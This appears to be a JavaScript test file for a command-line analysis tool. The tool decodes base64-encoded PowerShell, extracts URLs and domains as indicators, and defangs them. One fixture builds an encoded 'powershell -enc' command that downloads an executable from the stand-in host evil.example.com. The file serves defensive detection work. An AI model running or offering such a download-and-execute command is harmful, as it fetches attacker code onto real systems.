import { readCommandLine } from './commandLineReading';

it('decodes a command line, and finds its indicators and those of what was encoded', () => {
  const encoded = Buffer.from('iwr http://evil.example.com/a.exe', 'utf16le').toString('base64');
  const { items, indicators, defanged, notes } = readCommandLine(`powershell -enc ${encoded} http://a.example.org/x`);
  expect(items.map(({ text, encoding }) => [text, encoding])).toEqual([
    ['iwr http://evil.example.com/a.exe', 'utf-16le'],
  ]);
  expect(indicators.map(({ defanged: shown }) => shown)).toEqual([
    'hXXp://a[.]example[.]org/x',
    'a[.]example[.]org',
    'hXXp://evil[.]example[.]com/a.exe',
    'evil[.]example[.]com',
  ]);
  expect(defanged).toBe(`powershell -enc ${encoded} hXXp://a[.]example[.]org/x`);
  expect(notes).toEqual([]);
});

it('finds nothing in nothing', () => {
  expect(readCommandLine('')).toEqual({ items: [], indicators: [], defanged: '', notes: [] });
});
